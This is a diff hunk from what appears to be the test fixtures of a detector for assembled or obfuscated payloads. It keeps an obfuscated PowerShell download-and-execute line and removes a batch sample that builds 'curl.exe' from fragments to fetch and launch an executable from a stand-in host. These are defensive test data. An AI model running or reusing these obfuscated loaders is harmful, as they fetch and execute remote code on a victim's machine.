@@ -3146,13 +3146,6 @@ const WIDENED: &[(&str, &str, &str, &str)] = &[
         "set p1=power\nset p2=shell\nset m=Down\nset m=%m%loadString\n%p1%%p2% -c \"$w=New-Object Net.WebClient;$s=$w.('%m%')('https://x.example.net/e.ps1');&([scriptblock]::Create($s))\"",
         "set p1=power\nset p2=shell\nset m=Get\nset m=%m%-Date\n%p1%%p2% -c \"$d=%m%;Write-Output ('built ' + $d.ToString())\"",
     ),
-    // A batch line run from one expansion, its variable set in quotes.
-    (
-        "assembled-payload",
-        "scripts/x.cmd",
-        "set \"c=cu\"\nset \"c=%c%rl.exe\"\n%c% -s -o %TEMP%\\h.exe https://x.example.net/h.exe && start \"\" %TEMP%\\h.exe",
-        "set \"c=cu\"\nset \"c=%c%rl.exe\"\n%c% -s -o %TEMP%\\h.json https://x.example.net/h.json && type %TEMP%\\h.json",
-    ),
     // PHP's `.` with no space: `'cu'.'rl'` joins as `'cu' . 'rl'` does.
     (
         "assembled-payload",
